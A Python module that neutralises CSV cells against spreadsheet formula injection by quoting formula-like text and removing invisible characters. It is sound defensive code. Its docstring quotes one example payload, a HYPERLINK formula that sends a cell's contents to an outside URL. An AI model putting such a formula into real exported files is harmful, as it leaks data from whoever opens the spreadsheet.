"""Text cells made safe for spreadsheets: no formula runs, no invisible character is published.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula (OWASP "CSV injection"): ``=HYPERLINK("http://…?d="&A1,"Klicka här")`` in a
downloaded CSV would run when a journalist opens it in Excel. The plans themselves print such
text (``+ demografi``, ``=0``, ``-26 328``), so it is never rejected: ``neutralise`` puts a single
quote before a cell that starts like a formula and holds more than a number as written, which is
what spreadsheets read as "this is text". Numbers, alone or with a sign (``-26 328``, ``= 100%``),
cannot call a function and stay as they are.
"""

from __future__ import annotations

import csv
import io
import re

from generator.ingest.characters import strip_invisible

#: What starts a formula: the ASCII signs, tab, carriage return and their full-width forms.
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
#: A number as a plan prints it: an optional comparator and sign, digits grouped by spaces (also
#: no-break and narrow no-break), "." or ",", an optional percent sign; or a sign alone ("=").
_NUMBER_AS_WRITTEN = re.compile(
    r"[=\uff1d]?[ \u00a0\u202f]*[-+\u2212\uff0b\uff0d]?[ \u00a0\u202f]*"
    r"(?:[0-9](?:[0-9 \u00a0\u202f.,]*[0-9])?[ \u00a0\u202f]*%?)?"
)


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (and it is more than a number as written)."""
    return text[:1] in FORMULA_START and not _NUMBER_AS_WRITTEN.fullmatch(text)


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` if a spreadsheet would read it as a formula, else unchanged."""
    return "'" + text if looks_like_formula(text) else text


def safe_cell(text: str) -> str:
    """A text cell as it is published: invisible characters removed, then neutralised."""
    return neutralise(strip_invisible(text))


def neutralise_csv(text: str) -> str:
    """A CSV text with every cell made safe (``safe_cell``), written back with ``\\n`` line ends."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
